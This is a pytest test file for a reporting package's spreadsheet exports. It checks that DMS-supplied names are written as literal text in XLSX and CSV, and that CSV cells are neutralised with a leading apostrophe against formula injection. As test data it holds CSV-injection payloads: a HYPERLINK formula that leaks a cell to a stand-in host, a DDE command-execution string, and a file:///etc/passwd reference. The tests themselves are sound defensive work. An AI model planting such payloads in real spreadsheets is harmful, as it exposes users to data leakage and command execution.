"""Safe spreadsheets (issue 9, item 3): text a DMS gave us is written as text, never run.

A customer or advisor name such as ``=HYPERLINK("http://…?leak="&A1,"点我")`` or
``=cmd|' /C calc'!A0`` must reach the XLSX files (export, call sheets, report) as a string
cell holding that literal text, and a CSV export with a leading ``'`` (OWASP's CSV-injection
rule) unless asked for the raw cells. Numbers, dates and booleans are never touched.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import re
from pathlib import Path

import openpyxl
import pyarrow as pa
import pytest
from report_store import A, hand  # noqa: F401  (hand: the session fixture)

from aftercare.errors import AftercareError
from aftercare.reports.call_sheets import CallSheets, write_call_sheets
from aftercare.reports.data import AdvisorWeek
from aftercare.reports.table_file import CsvOptions, csv_safe, write_table_file
from aftercare.reports.workbook import new_workbook
from aftercare.reports.xlsx import write_xlsx

SRC = Path(__file__).resolve().parents[2] / "src" / "aftercare"
HYPERLINK = '=HYPERLINK("http://x.test/?leak="&A1,"点我")'
DDE = "=cmd|' /C calc'!A0"
# (A carriage return is stored as _x000D_ in the XML, which openpyxl hands back as it is.)
HOSTILE = [HYPERLINK, DDE, "@SUM(1+1)", "+86 138", "-2+3", "\t=1", "{=A1}",
           "http://evil.test/", "file:///etc/passwd", "external:c:\\x.xlsx"]  # fmt: skip


def every_cell(path: Path) -> list[openpyxl.cell.Cell]:
    """Every cell of every sheet of the workbook at ``path`` (formulas as written)."""
    book = openpyxl.load_workbook(path)
    return [c for ws in book for row in ws.iter_rows() for c in row if c.value is not None]


def assert_text_cells(path: Path, texts: list[str]) -> None:
    """No formula or link anywhere; each of ``texts`` is in a string cell, literally."""
    cells = every_cell(path)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.coordinate for c in cells if c.hyperlink is not None] == []
    strings = {c.value for c in cells if c.data_type == "s"}
    for text in texts:
        assert any(text in s for s in strings), f"{text!r} is not a text cell of {path.name}"


def test_every_workbook_is_opened_by_new_workbook():
    # One door: a workbook built anywhere else would turn "=…" back into a formula. The demo's
    # DMS files are generated names and codes, and demo/ cannot import reports/.
    opened = {
        path.relative_to(SRC).as_posix()
        for path in SRC.rglob("*.py")
        if re.search(r"\bWorkbook\(", path.read_text(encoding="utf-8"))
    }
    assert opened == {"reports/workbook.py", "demo/files.py"}


def test_new_workbook_writes_text_as_text(tmp_path):
    path = tmp_path / "t.xlsx"
    book = new_workbook(path, strings_to_formulas=True)  # cannot switch the guard off
    sheet = book.add_worksheet()
    for r, text in enumerate(HOSTILE):
        sheet.write(r, 0, text)
    book.close()
    cells = every_cell(path)
    assert [(c.value, c.data_type) for c in cells] == [(t, "s") for t in HOSTILE]
    assert all(c.hyperlink is None for c in cells)


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        ("+8613800000000", "'+8613800000000"),
        ("-5", "'-5"),  # text that looks like a number is still text: Excel would compute it
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("王伟", "王伟"),
        ("a=b", "a=b"),
        ("'=x", "'=x"),  # already quoted: a spreadsheet shows it as text
        ("", ""),
        (None, None),
    ],
)
def test_csv_safe_prefixes_cells_a_spreadsheet_would_run(cell, written):
    assert csv_safe(pa.array([cell], pa.string())).to_pylist() == [written]


@pytest.mark.parametrize(
    "kind",
    [pa.string(), pa.large_string(), pa.string_view(), pa.dictionary(pa.int32(), pa.string())],
)
def test_csv_safe_takes_every_kind_of_text_column(kind):
    column = pa.array([DDE, "ok", None], pa.string()).cast(kind)
    assert csv_safe(column).to_pylist() == ["'" + DDE, "ok", None]


def _rows() -> pa.Table:
    return pa.table(
        {
            "customer_id": ["C1", "C2"],
            "name": pa.array([DDE, "-王伟"], pa.large_string()),
            "code": pa.array([HYPERLINK, "ok"]).dictionary_encode(),
            "total_cny": pa.array([-1234.5, 99.0]),
            "visits": pa.array([-3, 2], pa.int64()),
            "open_date": pa.array([dt.date(2024, 3, 5), None]),
            "is_vip": [True, False],
        }
    )


def test_csv_export_neutralises_text_not_numbers_with_a_bom(tmp_path):
    out = tmp_path / "x.csv"
    rows = _rows()
    assert write_table_file(rows.to_reader(), out, file_format=".csv") == 2
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    lines = data[3:].decode("utf-8").splitlines()
    assert lines[0] == '"customer_id","name","code","total_cny","visits","open_date","is_vip"'
    assert (
        lines[1]
        == '"C1","\'=cmd|\' /C calc\'!A0","\'=HYPERLINK(""http://x.test/?leak=""&A1,""点我"")",-1234.5,-3,2024-03-05,true'
    )
    assert lines[2] == '"C2","\'-王伟","ok",99,2,,false'


def test_csv_raw_and_no_bom_write_the_cells_as_stored(tmp_path):
    out = tmp_path / "x.csv"
    write_table_file(
        _rows().to_reader(), out, file_format=".csv", csv=CsvOptions(neutralise=False, bom=False)
    )
    lines = out.read_text(encoding="utf-8").splitlines()
    assert lines[1].startswith('"C1","=cmd|\' /C calc\'!A0","=HYPERLINK(')
    assert lines[2] == '"C2","-王伟","ok",99,2,,false'


def test_xlsx_export_keeps_types_and_text(tmp_path):
    out = tmp_path / "x.xlsx"
    assert write_table_file(_rows().to_reader(), out, file_format=".xlsx", sheet_name="rows") == 2
    assert_text_cells(out, [DDE, HYPERLINK, "-王伟"])
    ws = openpyxl.load_workbook(out)["rows"]
    first = [(c.value, c.data_type) for c in next(ws.iter_rows(min_row=2, max_row=2))]
    assert first == [("C1", "s"), (DDE, "s"), (HYPERLINK, "s"), (-1234.5, "n"), (-3, "n"),
                     (dt.datetime(2024, 3, 5), "d"), (True, "b")]  # fmt: skip


def _sheet_row(action_id: str, advisor: str | None, name: str | None) -> dict:
    return {"action_id": action_id, "rule_id": "A-WELCOME", "priority": "high",
            "due_date": dt.date(2024, 6, 28), "customer_id": "C1", "customer_name": HYPERLINK,
            "phone": "+8613800000000", "plate": "=1+1", "model": None, "evidence": None,
            "script": DDE, "advisor_id": advisor, "advisor_name": name}  # fmt: skip


def test_call_sheets_write_names_and_scripts_as_text(tmp_path):
    rows = [_sheet_row("X1", "S1", DDE), _sheet_row("X2", None, None)]
    sheets = CallSheets(as_of=A, week_start=A - dt.timedelta(days=6), week_end=A, rows=rows)
    path = write_call_sheets(sheets, tmp_path / "calls.xlsx")
    # The summary's advisor label, the sheet's customer, phone, plate and script.
    assert_text_cells(path, [f"{DDE} (S1)", HYPERLINK, "+8613800000000", "=1+1", DDE])


def test_report_xlsx_writes_advisor_names_as_text(hand, tmp_path):  # noqa: F811
    report = hand.at_a
    hostile = [AdvisorWeek(DDE, HYPERLINK, {"high": 1}, 0), AdvisorWeek("=1+1", None, {}, 0)]
    report = dataclasses.replace(
        report, actions=dataclasses.replace(report.actions, by_advisor=hostile)
    )
    path = write_xlsx(report, tmp_path / "r.xlsx")
    assert_text_cells(path, [HYPERLINK, "=1+1"])


def test_xlsx_export_refuses_more_rows_than_a_sheet_holds(tmp_path, monkeypatch):
    import aftercare.reports.table_file as table_file

    monkeypatch.setattr(table_file, "EXCEL_MAX_ROWS", 1)
    with pytest.raises(AftercareError, match="more than 1 rows do not fit an Excel sheet"):
        write_table_file(_rows().to_reader(), tmp_path / "x.xlsx", file_format=".xlsx")


def test_unknown_format_is_refused(tmp_path):
    with pytest.raises(AftercareError, match="unknown export format"):
        write_table_file(_rows().to_reader(), tmp_path / "x.txt", file_format=".txt")
